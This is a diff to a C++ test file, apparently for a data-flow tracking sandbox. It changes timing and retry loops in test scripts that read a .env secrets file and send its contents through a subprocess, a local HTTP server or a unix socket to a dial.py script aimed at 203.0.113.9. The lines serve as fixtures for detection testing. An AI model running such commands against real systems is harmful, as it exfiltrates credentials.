@@ -88,14 +88,16 @@ TEST_F(DataFlowPod, WhatReachesAProgramByAnyWayIsKnown) {
        "python3 -c 'import subprocess\nx=open(\".env\").read()\n"
        "subprocess.run([\"python3\",\"dial.py\",\"203.0.113.9\"],input=x,text=True)'"},
       {"a server in the pod",
-       "python3 -m http.server 8000 >/dev/null 2>&1 & sleep 1; cat .env > page; "
-       "python3 -c 'import urllib.request\nurllib.request.urlopen(\"http://127.0.0.1:8000/page\").read()\n"
+       "python3 -m http.server 8000 >/dev/null 2>&1 & cat .env > page; "
+       "python3 -c 'import time,urllib.request\nfor i in range(500):\n"
+       " try: urllib.request.urlopen(\"http://127.0.0.1:8000/page\").read();break\n"
+       " except OSError: time.sleep(.02)\n"
        "exec(open(\"dial.py\").read())' 203.0.113.9; kill $!"},
       {"a unix socket",
        "python3 -c 'import socket\ns=socket.socket(socket.AF_UNIX)\ns.bind(\"/tmp/s\")\ns.listen()\n"
        "c,_=s.accept()\nc.send(open(\".env\",\"rb\").read())' & "
        "python3 -c 'import socket,sys,time\ns=socket.socket(socket.AF_UNIX)\n"
-       "for i in range(200):\n try:\n  s.connect(\"/tmp/s\");break\n except OSError: time.sleep(.02)\n"
+       "for i in range(500):\n try:\n  s.connect(\"/tmp/s\");break\n except OSError: time.sleep(.02)\n"
        "s.recv(99)\nexec(open(\"dial.py\").read())' 203.0.113.9; wait"},
   };
   for (const auto& [way, script] : ways)
